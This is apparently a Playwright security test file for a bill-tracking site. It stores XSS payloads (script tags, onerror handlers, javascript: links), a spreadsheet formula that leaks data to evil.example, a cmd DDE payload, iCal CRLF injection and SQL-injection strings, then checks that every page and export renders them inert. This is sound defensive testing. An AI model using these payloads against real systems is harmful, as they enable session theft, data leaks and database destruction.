import { randomBytes } from "node:crypto";

import { parseFeed } from "@rowanmanning/feed-parser";
import type { Page } from "@playwright/test";
import { parse as parseCsv } from "csv-parse/sync";
import ICAL from "ical.js";

import type { PrismaClient } from "@/lib/db/generated/client";
import { billSnapshot } from "@/lib/legislation/snapshot";

import { expect, test } from "./auth-fixtures";
import { createE2eBill, openE2eDatabase } from "./content";

// Script and markup in every field an editor can fill, as the commands would store it (any text
// PostgreSQL accepts; web addresses http(s) only), then every page, back-office screen, feed and
// export that shows it: nothing is injected into the DOM, no dialog opens, the CSP reports no
// violation, and feeds and exports give the text back literally.

const suffix = randomBytes(4).toString("hex");
const SLUG = `xss-${suffix}`;

/** Markup that would run, or leave a trace, if any of it reached the DOM as HTML. */
const XSS = `<script>window.__xss=1;alert(1)</script><img src=x onerror="window.__xss=1;alert(1)"><svg onload="window.__xss=1"></svg><b id="xss-marker">b</b>`;
const SHORT_TITLE = `XSS ${suffix} <img src=x onerror=alert(1)> "quoted" 'single' &amp;`;
const FORMULA = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`;
const TITLE = `${FORMULA} ${XSS}`;
const SUMMARY = [
  `# Heading ${XSS}`,
  "",
  `<iframe src="javascript:alert(1)"></iframe><a href="javascript:alert(1)">raw link</a>`,
  "",
  "[inline](javascript:alert(1)) [mixed case](JaVaScRiPt:alert(1)) [spaced]( javascript:alert(1)) [entity](java&#09;script:alert(1))",
  "[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox(1)) [reference][evil] <javascript:alert(1)>",
  "![image](data:image/svg+xml,<svg onload=alert(1)>) ![remote](https://evil.example/pixel.png) ![js](javascript:alert(1))",
  "https://example.org/autolink and <https://example.org/angle>",
  "",
  "[evil]: javascript:alert(1)",
].join("\n");
const KEY_DATE_TITLE = `Deadline ${XSS}\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nEND:VEVENT`;
const SEARCH = `${XSS}"><img src=x onerror=alert(2)>`;

let db: PrismaClient;
let billId: string;
let statisticId: string;

/** Expire the cached pages that list this bill and the figures, as a command's notice would. */
async function announce(kind: string, slug?: string) {
  const latest = await db.auditLog.aggregate({ _max: { id: true } });
  await db.$executeRaw`SELECT pg_notify('legislation', ${JSON.stringify({ kind, slug, auditId: latest._max.id ?? 1 })})`;
}

test.beforeAll(async () => {
  db = openE2eDatabase();
  const bill = await createE2eBill(db, {
    slug: SLUG,
    shortTitle: SHORT_TITLE,
    title: "Benign first title",
    longTitle: `A bill ${XSS}`,
    jurisdiction: "us",
    numbers: [`S.${suffix}`, "<b>H.R.1</b>"],
    sponsors: [`Sen. ${XSS}`],
    committees: [`Committee ${XSS}`],
    summary: "A benign first summary.",
    keyProvisions: [`**Provision** ${XSS}`, "[provision link](javascript:alert(1))"],
    topics: [`Topic ${XSS}`],
    officialLinks: [{ label: `Link ${XSS}`, url: `https://example.org/?q=<script>alert(1)</script>&a="'` }],
    editorialNote: `Note ${XSS}`,
    verifiedOn: "2025-06-01",
    events: [
      {
        occurredOn: "2025-01-10",
        stage: "introduced",
        chamber: "senate",
        description: `+cmd|' /C calc'!A0 ${XSS}`,
        vote: `-1+1 ${XSS}`,
        note: `@SUM(1) ${XSS}`,
        sourceUrl: `https://example.org/source?x=<script>alert(1)</script>`,
        archiveUrl: `https://web.archive.org/web/2025/https://example.org/"onmouseover="alert(1)`,
      },
      { occurredOn: "2025-02-01", stage: "referred", chamber: "senate", description: `Referred ${XSS}` },
      { occurredOn: "2025-03-01", stage: "reported", chamber: "senate", description: `Reported ${XSS}` },
    ],
    keyDates: [{ date: "2026-05-19", title: KEY_DATE_TITLE, description: `Key date ${XSS}`, sourceUrl: "https://example.org/key-date" }],
  });
  billId = bill.id;
  const [, referred, reported] = await db.statusEvent.findMany({ where: { billId }, orderBy: { occurredOn: "asc" } });
  if (!referred || !reported) throw new Error("The events were not created.");
  await db.statusEvent.create({
    data: {
      billId,
      path: "senate",
      stage: "referred",
      occurredOn: new Date("2025-02-02T00:00:00Z"),
      chamber: "senate",
      description: `Referred (corrected) ${XSS}`,
      sourceUrl: "https://example.org/corrected",
      sourceKind: "official",
      correctsId: referred.id,
      note: `Correction note ${XSS}`,
    },
  });
  await db.statusEvent.update({ where: { id: reported.id }, data: { retractedAt: new Date(), retractionReason: `Retracted ${XSS}` } });

  // Version 2, as updateBill writes it: the bill, its revision and the audit row.
  const edited = await db.bill.update({ where: { id: billId }, data: { title: TITLE, summary: SUMMARY, version: 2 } });
  await db.billRevision.create({ data: { billId, version: 2, snapshot: billSnapshot(edited) } });
  await db.auditLog.create({
    data: {
      action: "bill.updated",
      entityType: "bill",
      entityId: billId,
      before: { title: "Benign first title", summary: "A benign first summary." },
      after: billSnapshot(edited),
    },
  });
  const statistic = await db.statistic.create({
    data: { label: `Reports ${XSS}`, value: `=1+1 ${XSS}`, period: `2025 ${XSS}`, sourceName: `Source ${XSS}`, sourceUrl: "https://example.org/figures" },
  });
  statisticId = statistic.id;
  await announce("test.xss", SLUG);
  await announce("statistic.created");
});

test.afterAll(async () => {
  await db.bill.deleteMany({ where: { id: billId } });
  await db.statistic.deleteMany({ where: { id: statisticId } });
  await announce("test.cleanup", SLUG);
  await announce("statistic.deleted");
  await db.$disconnect();
});

interface Watch {
  dialogs: string[];
  violations: string[];
}

/** Record every dialog and every CSP violation the page raises. */
async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { dialogs: [], violations: [] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) seen.violations.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => console.error(`Refused to: ${event.violatedDirective} ${event.blockedURI}`));
  });
  return seen;
}

/** Nothing from the payloads became an element, an attribute, a link or a script. */
async function expectNothingInjected(page: Page, seen: Watch): Promise<void> {
  const found = await page.evaluate(() => {
    const elements = [...document.querySelectorAll("*")];
    return {
      ran: (window as unknown as { __xss?: number }).__xss ?? null,
      markers: document.querySelectorAll("#xss-marker").length,
      handlers: elements.filter((element) => [...element.attributes].some((attribute) => /^on/i.test(attribute.name))).map((element) => element.outerHTML.slice(0, 120)),
      links: [...document.querySelectorAll<HTMLAnchorElement>("a[href]")].map((link) => link.protocol).filter((protocol) => !["http:", "https:", "mailto:"].includes(protocol)),
      // The one frame a page may hold is the bill page's preview of our own embed widget.
      frames: [...document.querySelectorAll<HTMLIFrameElement>("iframe, object, embed")].filter(
        (frame) => !(frame.tagName === "IFRAME" && new URL(frame.src, location.href).origin === location.origin && new URL(frame.src).pathname.startsWith("/embed/bills/")),
      ).length,
      images: [...document.querySelectorAll("img")].map((image) => image.src).filter((src) => !src.startsWith(location.origin)),
      scripts: [...document.scripts].filter((script) => script.textContent?.trim().startsWith("window.__xss") || script.src.endsWith("/x")).length,
    };
  });
  expect(found).toEqual({ ran: null, markers: 0, handlers: [], links: [], frames: 0, images: [], scripts: 0 });
  expect(seen.dialogs).toEqual([]);
  expect(seen.violations).toEqual([]);
}

test.describe("script in content is shown as text", () => {
  test("on the public pages, with the markup readable", async ({ page }) => {
    const seen = await watch(page);
    await page.goto(`/bills/${SLUG}`);
    await expect(page.getByRole("heading", { level: 1 })).toContainText('<img src=x onerror=alert(1)> "quoted"');
    await expect(page.getByRole("main")).toContainText('<b id="xss-marker">b</b>');
    await expectNothingInjected(page, seen);

    const pages: [string, string][] = [
      [`/bills/${SLUG}?asOf=2025-02-15`, `XSS ${suffix}`],
      [`/embed/bills/${SLUG}`, `XSS ${suffix}`],
      [`/timeline?bill=${SLUG}`, `Referred (corrected) <script>`],
      ["/timeline", "Timeline"],
      ["/corrections", `Correction note <script>`],
      ["/facts", "Reports <script>"],
      [`/subscribe?bill=${SLUG}`, `XSS ${suffix}`],
    ];
    for (const [path, text] of pages) {
      // The cached lists learn of the new bill from its notice, a moment after it is sent.
      await expect(async () => {
        await page.goto(path);
        await expect(page.locator("body")).toContainText(text, { timeout: 1000 });
      }).toPass();
      await expectNothingInjected(page, seen);
    }
  });

  test("on the board, including a search reflected in the box and the heading", async ({ page }) => {
    const seen = await watch(page);
    await expect(async () => {
      await page.goto("/");
      await expect(page.getByRole("article", { name: new RegExp(`XSS ${suffix}`) })).toBeVisible({ timeout: 1000 });
    }).toPass();
    await expectNothingInjected(page, seen);

    await page.goto(`/?q=${encodeURIComponent(SEARCH)}`);
    await expect(page.getByRole("searchbox")).toHaveValue(SEARCH.trim());
    await expectNothingInjected(page, seen);

    // A search that matches the bill, so its highlighted title and history are shown too.
    await page.goto(`/?q=${encodeURIComponent(`XSS ${suffix}`)}`);
    await expect(page.getByRole("article", { name: new RegExp(`XSS ${suffix}`) })).toBeVisible();
    await expect(page.getByRole("article", { name: new RegExp(`XSS ${suffix}`) }).locator("mark").first()).toBeVisible();
    await expectNothingInjected(page, seen);
  });

  test("SQL-like and operator-laden searches give an ordinary page", async ({ page }) => {
    const seen = await watch(page);
    for (const query of [`' OR 1=1 --`, `'; DROP TABLE "Bill"; --`, `%' AND pg_sleep(5) --`, `!:*&|()<->\\`, "take-it-down-act' UNION SELECT email FROM \"User\" --"]) {
      const response = await page.goto(`/?q=${encodeURIComponent(query)}`);
      expect(response?.status(), query).toBe(200);
      await expect(page.getByRole("searchbox")).toHaveValue(query);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      await expectNothingInjected(page, seen);
    }
    await page.goto("/");
    await expect(page.getByRole("article", { name: /TAKE IT DOWN Act/ })).toBeVisible();
  });

  test("in the back office: bill list, edit form, history, revision diff, audit log, key dates and figures", async ({ page, login }) => {
    await login({ role: "admin" });
    const seen = await watch(page);
    const pages = [
      "/admin/bills",
      `/admin/bills?q=${encodeURIComponent(SEARCH)}`,
      `/admin/bills/${billId}`,
      `/admin/bills/${billId}/history`,
      `/admin/bills/${billId}/revisions?from=1&to=2`,
      `/admin/audit?entityId=${billId}`,
      "/admin/audit",
      "/admin/key-dates",
      "/admin/statistics",
      `/preview/bills/${billId}`,
    ];
    for (const path of pages) {
      await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      await expectNothingInjected(page, seen);
    }
    await page.goto(`/admin/bills/${billId}/revisions?from=1&to=2`);
    await expect(page.getByRole("main")).toContainText("<script>window.__xss=1;alert(1)</script>");
  });
});

test.describe("feeds and exports give the text back literally", () => {
  test("the Atom feeds: titles and summaries parse to the literal text, and no markup is raw", async ({ request }) => {
    for (const path of [`/bills/${SLUG}/feed.xml`, "/feed.xml"]) {
      let xml = "";
      await expect(async () => {
        xml = await (await request.get(path)).text();
        expect(xml).toContain(suffix);
      }).toPass();
      expect(xml).not.toMatch(/<(script|img|svg|iframe|b)\b/i);
      const feed = parseFeed(xml);
      const ours = feed.items.filter((item) => item.title?.includes(`XSS ${suffix}`));
      expect(ours.length).toBeGreaterThan(0);
      expect(ours.map((item) => item.title)).toContainEqual(expect.stringContaining(SHORT_TITLE));
      expect(ours.map((item) => item.description)).toContainEqual(`Referred (corrected) ${XSS}`);
      if (path !== "/feed.xml") {
        // The feed's own title is Atom text: one XML unescape gives it back. (The parser would
        // unescape once more, as if it were HTML, so it is read here as the standard says.)
        const title = /<title>([^<]*)<\/title>/.exec(xml)?.[1] ?? "";
        const unescaped = title.replace(/&(lt|gt|quot|apos|amp);/g, (_entity, name: string) => ({ lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" })[name] ?? "");
        expect(unescaped).toBe(`${SHORT_TITLE}: status changes – Policy Tracker`);
      }
    }
  });

  test("the calendars: a title cannot add an event, and reads back as written", async ({ request }) => {
    const text = await (await request.get(`/bills/${SLUG}/calendar.ics`)).text();
    const calendar = new ICAL.Component(ICAL.parse(text));
    // The editor's key date, and the end of the bill's Congress, which comes from the model.
    const events = calendar.getAllSubcomponents("vevent");
    expect(events.map((event) => String(event.getFirstPropertyValue("summary")))).toEqual([
      expect.stringContaining(KEY_DATE_TITLE.replace(/\r\n/g, "\n")),
      `${SHORT_TITLE}: End of the 119th Congress`,
    ]);
    expect(text).not.toMatch(/^SUMMARY:Injected/m);
  });

  test("the CSV export neutralises formulas, and the JSON export is exact", async ({ request }) => {
    const rows = parseCsv(await (await request.get("/api/v1/export.csv")).text(), { bom: true, columns: true }) as Record<string, string>[];
    const ours = rows.filter((row) => row.bill_slug === SLUG);
    expect(ours.length).toBeGreaterThan(0);
    expect(ours[0]?.bill_title).toBe(`'${TITLE}`);
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(ours.map((row) => row.description)).toContainEqual(`'+cmd|' /C calc'!A0 ${XSS}`);

    const exported = (await (await request.get("/api/v1/export.json")).json()) as { bills: { slug: string; title: string; summary: string }[] };
    expect(exported.bills.find((bill) => bill.slug === SLUG)).toMatchObject({ title: TITLE, summary: SUMMARY });
    const single = (await (await request.get(`/api/v1/bills/${SLUG}`)).json()) as { shortTitle: string };
    expect(single.shortTitle).toBe(SHORT_TITLE);
  });
});

test.describe("dangerous web addresses are refused where they are typed", () => {
  test("a javascript: source for a status event, and a javascript: official link, get a field message", async ({ page, login, makeBill }) => {
    await login({ role: "editor" });
    const bill = await makeBill();
    await page.goto(`/admin/bills/${bill.id}/history`);
    await page.getByLabel("Step", { exact: true }).selectOption({ label: "Referred to a Senate committee" });
    await page.getByLabel("Date it happened").fill("2025-02-01");
    await page.getByLabel("What happened").fill("Referred.");
    await page.getByLabel("Source", { exact: true }).fill("javascript:alert(document.cookie)");
    await page.getByRole("button", { name: "Record event" }).click();
    await expect(page.getByText("Enter a full web address starting with https://").first()).toBeVisible();
    expect(await db.statusEvent.count({ where: { billId: bill.id } })).toBe(1);

    await page.goto(`/admin/bills/${bill.id}`);
    await page.getByLabel("Official links").fill("Looks official | javascript:alert(1)");
    await page.getByRole("button", { name: "Save changes" }).click();
    await expect(page.getByText(/Line 1: Enter a full web address/).first()).toBeVisible();
  });
});
